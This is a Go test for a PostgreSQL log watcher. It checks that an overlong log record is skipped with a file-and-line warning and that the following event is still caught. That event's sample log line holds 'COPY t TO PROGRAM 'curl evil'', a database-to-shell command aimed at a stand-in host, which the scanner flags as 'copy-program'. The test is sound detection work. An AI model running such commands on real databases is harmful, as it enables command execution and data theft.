package logscan

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestWatchSkipsOverlongRecord (issue #10 defect 8): logs watch drops a
// record longer than MaxRecord with a warning naming the file and line,
// and still sees the events after it.
func TestWatchSkipsOverlongRecord(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "postgresql.log")
	os.WriteFile(path, []byte("2026-11-22 08:00:00.000 UTC [1] a@b 10.0.0.1(1) LOG:  statement: SELECT 1\n"), 0o600)
	p, _ := CompilePrefix("%m [%p] %q%u@%d %r ")
	an := NewAnalysis(DefaultThresholds())
	got := make(chan Event, 10)
	an.OnEvent = func(e Event) { got <- e }
	warns := make(chan string, 10)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		Watch(ctx, path, Options{Prefix: p, Warn: func(m string) { warns <- m }}, an, 20*time.Millisecond)
		close(done)
	}()
	time.Sleep(100 * time.Millisecond) // let watch start at the end of the file
	f, _ := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("2026-11-22 08:00:01.000 UTC [2] a@b 10.0.0.1(1) LOG:  statement: SELECT '")
	f.Write(bytes.Repeat([]byte("x"), MaxRecord+MaxRecord/2))
	f.WriteString("'\n2026-11-22 08:00:02.000 UTC [3] app@b 10.0.0.7(1) LOG:  statement: COPY t TO PROGRAM 'curl evil'\n")
	f.Close()
	select {
	case w := <-warns:
		if !strings.HasPrefix(w, path+":2: record longer than") {
			t.Errorf("warning %q", w)
		}
	case <-time.After(2 * time.Minute): // a hang detector, not a timing assertion
		t.Fatal("no warning for the overlong record")
	}
	select {
	case e := <-got:
		if e.Kind != "copy-program" || len(e.Evidence) == 0 || e.Evidence[0] != path+":3" {
			t.Errorf("event %s at %v, want copy-program at %s:3", e.Kind, e.Evidence, path)
		}
	case <-time.After(2 * time.Minute):
		t.Fatal("the event after the overlong record was not seen")
	}
	cancel()
	<-done
}
